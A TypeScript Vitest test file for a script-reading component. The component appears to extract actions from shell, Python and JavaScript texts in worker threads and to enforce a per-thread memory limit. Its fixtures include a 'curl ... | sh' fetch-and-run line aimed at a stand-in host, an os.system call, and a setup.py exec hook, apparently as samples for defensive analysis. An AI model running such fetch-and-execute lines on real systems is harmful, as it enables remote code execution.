import { afterEach, describe, expect, it } from "vitest"
import { type Limits, limitsDefault } from "../../core/limits.ts"
import { Readers, type ReadersOptions } from "./readers.ts"
import type { Reading } from "./text-reader.ts"

const files = new Set(["a.sh", "b.py", "setup.py", "index.js"])
const texts = [
  { path: "a.sh", language: "shell", text: "curl https://a.invalid/x | sh\n" },
  { path: "b.py", language: "python", text: "import os\nos.system('make')\n" },
  { path: "index.js", language: "javascript", text: "require('fs').writeFileSync('MARKER', Buffer.from(process.env.A, 'base64'))\n" },
  { path: "setup.py", language: "python", text: "exec(open('b.py').read())\n" },
]

const begun: Readers[] = []
afterEach(async () => {
  for (const readers of begun.splice(0)) await readers.end()
})

function readersOf(options: ReadersOptions, limits: Partial<Limits> = {}): Readers {
  const readers = new Readers({ files, limits: { ...limitsDefault, ...limits } }, options)
  begun.push(readers)
  return readers
}

const readAll = (readers: Readers): Promise<readonly Reading[]> =>
  Promise.all(texts.map(({ path, language, text }) => readers.read({ path, text, isWhole: true }, language)))

describe("texts that are read in threads", () => {
  it("are what they are read as without", async () => {
    const here = await readAll(readersOf({ threads: 0 }))
    expect(here.map(({ script }) => script.acts.length > 0)).toEqual(texts.map(() => true))
    expect(await readAll(readersOf({ threads: 2, alone: 0 }))).toEqual(here)
  })

  it("are said where they are too much for a thread, and take no other with them", async () => {
    const readers = readersOf({ threads: 2, alone: 0 }, { readerHeapBytesMax: 48 * 2 ** 20 })
    const large = { path: "large.js", text: `${"a(1,2,3);".repeat(600_000)}\n`, isWhole: true }
    const [tooMuch, ...others] = await Promise.all([readers.read(large, "javascript"), ...(await readAll(readers))])
    expect(tooMuch?.script.blind).toEqual([{ at: { path: "large.js", lines: [1, 1] }, why: "it takes more than 48 MiB to read" }])
    expect(others).toEqual(await readAll(readersOf({ threads: 0 })))
  })
})
